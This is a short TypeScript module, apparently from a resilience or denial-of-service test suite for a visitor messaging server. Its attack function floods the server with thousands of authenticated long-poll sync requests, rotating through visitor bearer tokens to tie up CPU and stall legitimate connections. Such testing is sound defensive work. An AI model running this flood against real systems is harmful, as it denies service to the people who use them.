import type { Attack } from '../../support/attacker.ts'
import { keepOpen } from '../../support/flooding.ts'
import { requestText } from '../../support/raw-http.ts'

/**
 * Long polls of many visitors, as many as they get. Each costs the server 0.4 ms: 1,500 a second occupy more than half
 * a core that it must share, and then whoever connects waits behind earlier connections.
 */
export const attack: Attack = (target) => {
  const tokens = (target.given.visitors as { token: string }[]).map(({ token }) => token)
  let count = 0
  return keepOpen(target, { sockets: 10_000, addresses: 100, perSecond: 1000 }, (socket) => {
    count += 1
    const authorization = `Bearer ${tokens[count % tokens.length]}`
    socket.resume().write(requestText('GET /visitor/api/v1/message/sync?wait=20', { authorization }))
  })
}
